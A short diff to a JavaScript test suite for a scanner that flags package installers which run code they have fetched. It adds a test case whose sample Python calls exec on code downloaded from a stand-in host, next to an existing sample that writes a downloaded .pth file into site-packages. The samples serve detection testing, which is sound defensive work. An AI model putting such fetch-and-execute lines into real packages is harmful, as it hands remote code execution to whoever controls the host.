@@ -110,6 +110,11 @@ describe('the checks hold an installer that runs what it has fetched', () => {
       `${FETCH}import site\nurlretrieve("https://e.example/a", os.path.join(site.getsitepackages()[0], "a.pth"))\n`,
     ],
     [
+      'in the main block of an installer that the package imports',
+      `${FETCH}if __name__ == "__main__":\n    exec(urlopen("https://e.example/a").read())\n`,
+      { '__init__.py': 'from . import install\nNODE_CLASS_MAPPINGS = {}\n' },
+    ],
+    [
       'in the script of a build',
       '',
       {
